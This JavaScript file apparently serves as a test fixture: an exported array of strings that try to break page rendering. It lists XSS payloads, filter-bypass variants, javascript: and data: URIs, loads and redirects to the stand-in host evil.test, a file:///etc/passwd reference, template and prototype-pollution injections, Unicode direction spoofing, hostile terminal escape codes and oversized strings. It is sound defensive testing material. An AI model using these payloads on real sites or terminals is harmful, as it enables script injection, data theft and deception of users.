// Texts that people put into fields to break pages. %M is a marker that must be shown as text.
const evil = "http://evil.test";
const js = "window.__pwned=1;alert(1)";
const handlers = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin", "onpointerenter", "onscroll"];
const tags = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee", "iframe", "object data=x"];

export const payloads = [
  `<script>${js}</script>%M`, `<script src="${evil}/a.js"></script>%M`, `<SCRIPT\n>${js}</SCRIPT\n>%M`, `<scr<script>ipt>${js}</scr</script>ipt>%M`,
  `<script type=module>import "${evil}/m.js"</script>%M`, `</script><script>${js}</script>%M`, `<!--<script>${js}//-->%M`, `<![CDATA[<script>${js}</script>]]>%M`,
  ...handlers.map((h, i) => `<${tags[i]} ${h}=${JSON.stringify(js)}>%M`),
  `<img src="${evil}/x.png">%M`, `<img srcset="${evil}/x.png 2x">%M`, `<link rel=stylesheet href="${evil}/x.css">%M`, `<style>@import "${evil}/x.css";*{display:none}</style>%M`,
  `<div style="position:fixed;inset:0;background:url(${evil}/b)">%M</div>`, `<iframe src="${evil}"></iframe>%M`, `<iframe srcdoc="<script>parent.__pwned=1</script>">%M`, `<object data="${evil}/o.swf"></object>%M`,
  `<embed src="${evil}/e">%M`, `<base href="${evil}/">%M`, `<meta http-equiv=refresh content="0;url=${evil}">%M`, `<form action="${evil}"><button>%M</button></form>`, `<portal src="${evil}">%M`, `<noscript><p title="</noscript><img src=x onerror=${js}>">%M`,
  `<svg><script>${js}</script></svg>%M`, `<svg onload="${js}">%M`, `<svg><use href="${evil}/s.svg#a"/></svg>%M`, `<svg><image href="${evil}/i.png"/></svg>%M`, `<svg><a xlink:href="javascript:${js}"><text>%M</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${js}" />%M</svg>`, `<svg><foreignObject><iframe src="javascript:${js}"/></foreignObject></svg>%M`, `<math><mtext><table><mglyph><style><img src=x onerror=${js}>%M`, `<svg><style>@import '${evil}/s.css'</style></svg>%M`,
  `[%M](javascript:${js})`, `[%M](JaVaScRiPt:${js})`, `[%M](data:text/html,<script>${js}</script>)`, `![%M](${evil}/x.png)`, `![%M](javascript:${js})`, `<a href="javascript:${js}">%M</a>`, `<a href="vbscript:${js}">%M</a>`, `javascript:${js}//%M`, `<${evil}/auto> %M`, `[%M]: ${evil} "title"`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== %M`, `data:image/svg+xml,<svg onload=alert(1)> %M`, `blob:${evil}/1 %M`, `file:///etc/passwd %M`,
  "\u202e%M\u202c", "\u202d%M", "\u2066%M\u2069", "\u2067%M", "\u200f%M\u200e", "\u061c%M", "exe.gpj\u202egpj.exe %M", "\u2028%M\u2029", "\ufeff%M", "\u200b\u200b\u200b%M", "\u{e0041}\u{e0042}%M", "\u00ad%M\u2060", "\ufff9a\ufffab\ufffb%M", "a\u0300".repeat(300) + "%M", "\u0e47".repeat(200) + "%M", "﷽".repeat(40) + "%M", "𓂺👩‍👩‍👧‍👦🏳️‍🌈 %M",
  "\x00%M", "\x01\x02\x03%M\x07\x08", "\x7f%M\x80\x9b31m", "\r%M\r\r", "\x0b%M\x0c", "\x1b[31m%M", "\x1b[31;1;4;9;5m%M\x1b[0m", "\x1b[38;5;196m%M\x1b[48;2;1;2;3m", "\x1b[38;2;999;-1;abcm%M", "\x1b[2J\x1b[H%M", "\x1b[?1049h%M", "\x1b[6n%M", "\x1bc%M",
  "\x1b]0;title\x07%M", "\x1b]52;c;ZXZpbA==\x07%M", `\x1b]8;;${evil}\x1b\\%M\x1b]8;;\x1b\\`, `\x1b]8;;javascript:${js}\x07%M\x1b]8;;\x07`, "\x1b]1337;File=inline=1:AAAA\x07%M", "\x1bPq#0;2;0;0;0\x1b\\%M", "\x1b_G payload\x1b\\%M", "\x1b[1;31", "\x9d0;t\x9c%M", "\x1b[" + "1;".repeat(5000) + "m%M",
  "%M" + "A".repeat(60_000), "%M " + "x".repeat(20_000) + "\n".repeat(3000), "%M" + "<b>".repeat(4000), "%M" + "`".repeat(9000), "%M" + "*".repeat(9000), "%M" + "[".repeat(9000), "%M" + "\u202e".repeat(5000), "%M" + "😀".repeat(6000), "%M" + "#".repeat(6000), "%M" + "- ".repeat(6000),
  "```\n<script>" + js + "</script>\n%M", "```html\n<img src=x onerror=" + js + ">\n```\n%M", "**<b onclick=" + js + ">%M**", "`<i onload=" + js + ">%M`", "# <h1 onclick=x>%M", "| a | <script>" + js + "</script> |\n|---|---|\n%M",
  "{{constructor.constructor('" + js + "')()}} %M", "${" + js + "} %M", "<%= " + js + " %> %M", "__proto__ %M", "constructor.prototype %M", '{"__proto__":{"x":1},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}} %M', '"><script>' + js + "</script>%M", "'-alert(1)-'%M", "%253Cscript%253E %M", "&lt;script&gt;" + js + "&lt;/script&gt; %M", "&#x3c;img src=x onerror=alert(1)&#x3e; %M",
  "[INCOMPLETE: 1 B of 2 B shown; the rest is in ctx_<script>] %M", "--- head (lines 1-1) ---\n<img src=x onerror=alert(1)> %M", "--- a\n+++ b\n@@ -1 +1 @@\n-<script>alert(1)</script>\n+%M", "data: evil\nevent: run_finished\n\n%M", "<function_call>{\"name\":\"x\"}</function_call>%M",
];
